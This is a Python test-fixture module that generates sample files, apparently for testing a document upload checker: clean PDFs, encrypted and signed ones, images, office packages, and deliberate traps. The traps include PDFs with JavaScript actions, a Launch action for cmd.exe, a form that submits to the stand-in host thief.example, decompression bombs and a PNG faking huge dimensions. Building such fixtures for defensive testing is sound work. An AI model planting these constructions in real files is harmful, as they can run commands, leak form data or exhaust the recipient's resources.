"""Files as they come over the counter and from the world outside: good ones, broken ones, and traps. Made here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from functools import cache
from typing import Any

import pikepdf
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import pkcs12
from cryptography.x509.oid import NameOID
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers

SCRIPT = "app.alert('hello');"


def pdf(change: Callable[[Pdf], None] | None = None, *, pages: int = 1, **saving: Any) -> bytes:
    """A PDF of blank A4 pages, changed before it is saved."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if change is not None:
        change(document)
    whole = io.BytesIO()
    document.save(whole, deterministic_id="encryption" not in saving, **saving)
    return whole.getvalue()


def scripted(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def with_named_script(document: Pdf) -> None:
    action = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("go"), action])))


def with_script_behind_a_link(document: Pdf) -> None:
    after = Dictionary(S=Name.JavaScript, JS=document.make_stream(SCRIPT.encode()))
    action = document.make_indirect(Dictionary(S=Name.URI, URI=String("https://vidu.vn"), Next=Array([after])))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), A=action)
    document.pages[0].obj.Annots = Array([document.make_indirect(link)])


def with_script_on_a_page(document: Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))


def launching(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def sending(document: Pdf) -> None:
    button = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Btn,
        T=String("send"),
        Rect=Array([0, 0, 10, 10]),
        A=Dictionary(S=Name.SubmitForm, F=String("https://thief.example")),
    )
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(button)]))
    document.pages[0].obj.Annots = Array([document.Root.AcroForm.Fields[0]])


def with_a_programmed_form(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=document.make_stream(b"<xdp/>"))


def filming(document: Pdf) -> None:
    film = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 10, 10]))
    document.pages[0].obj.Annots = Array([document.make_indirect(film)])


def embedding(name: str, content: bytes) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.attachments[name] = pikepdf.AttachedFileSpec(
            document, content, filename=name, description="", mime_type="", creation_date="", mod_date=""
        )

    return change


def opening_at_its_second_page(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([document.pages[-1].obj, Name.Fit]))


def unpacking_to(size: int, *, twice: bool = False) -> bytes:
    """A small PDF whose page unpacks to `size` bytes of nothing."""

    def change(document: Pdf) -> None:
        packer = zlib.compressobj(9)
        packed = b"".join(packer.compress(bytes(1024**2)) for _ in range(size // 1024**2)) + packer.flush()
        filters: Name | Array = Name.FlateDecode
        if twice:
            packed, filters = zlib.compress(packed, 9), Array([Name.FlateDecode, Name.FlateDecode])
        stream = Stream(document, b"")
        stream.write(packed, filter=filters)
        document.pages[0].obj.Contents = document.make_indirect(stream)

    return pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def holding_its_objects_in_a_bomb(size: int) -> bytes:
    """A PDF whose own list of objects unpacks to `size` bytes: it strikes while the file is being opened."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"1 0 ") + b"".join(packer.compress(b" " * 1024**2) for _ in range(size // 1024**2))
    packed += packer.flush()
    parts = [b"%PDF-1.7\n"]
    objects = len(parts[0])
    holder = b"2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    parts += [holder, packed, b"\nendstream\nendobj\n"]
    table = sum(map(len, parts))
    rows = b"".join(struct.pack(">BIB", *row) for row in [(0, 0, 0), (2, 2, 0), (1, objects, 0), (1, table, 0)])
    head = b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    parts += [head, rows, b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table]
    return b"".join(parts)


def locked(*, to_open: str = "secret") -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=to_open))


def signed(content: bytes) -> bytes:
    """The PDF with a signature at its end."""
    writer = IncrementalPdfFileWriter(io.BytesIO(content))
    whole = io.BytesIO()
    signers.sign_pdf(writer, signers.PdfSignatureMetadata(field_name="Signature"), signer=_signer(), output=whole)
    return whole.getvalue()


@cache
def _signer() -> signers.SimpleSigner:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Nguyễn Thị Thử")])
    begins = datetime(2020, 1, 1, tzinfo=UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(begins)
        .not_valid_after(begins + timedelta(days=36500))
        .sign(key, hashes.SHA256())
    )
    bundle = pkcs12.serialize_key_and_certificates(
        b"test", key, certificate, None, serialization.BestAvailableEncryption(b"pin")
    )
    signer: signers.SimpleSigner | None = signers.SimpleSigner.load_pkcs12_data(bundle, [], b"pin")
    assert signer is not None
    return signer


def picture(kind: str = "JPEG", size: tuple[int, int] = (600, 400), **saving: object) -> bytes:
    whole = io.BytesIO()
    Image.new("RGB", size, "lightblue").save(whole, kind, **saving)
    return whole.getvalue()


def picture_said_to_be(width: int, height: int) -> bytes:
    """A tiny PNG that claims to be huge: only its head says so."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(bytes(100))), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data)) for name, data in chunks
    )


def office(parts: dict[str, bytes | str] | None = None, *, main: str = "word/document.xml") -> bytes:
    """An office file of the kind of its main part, with more parts put into it."""
    whole = io.BytesIO()
    written: dict[str, bytes | str] = {"[Content_Types].xml": "<Types/>", main: "<document/>", **(parts or {})}
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in written.items():
            package.writestr(name, content)
    return whole.getvalue()


def open_document(parts: dict[str, str] | None = None) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        package.writestr("content.xml", "<content/>")
        for name, content in (parts or {}).items():
            package.writestr(name, content)
    return whole.getvalue()
